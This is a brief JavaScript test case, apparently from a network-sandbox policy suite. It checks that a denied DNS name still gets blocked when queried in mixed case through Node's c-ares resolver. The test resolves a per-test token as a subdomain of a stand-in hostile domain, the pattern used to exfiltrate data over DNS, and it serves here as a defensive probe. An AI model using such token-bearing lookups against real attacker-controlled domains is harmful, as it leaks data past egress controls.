// A denied name in other letters
// Asks for it in mixed case, by c-ares.
// policy: denied-names
// audit: explicitlyDeniedDNS
// proof: arrival
'use strict';
const dns = require('dns');

module.exports = async (at) => at.called((done) => dns.resolve4(`${at.token}.EVIL.Test`, done));
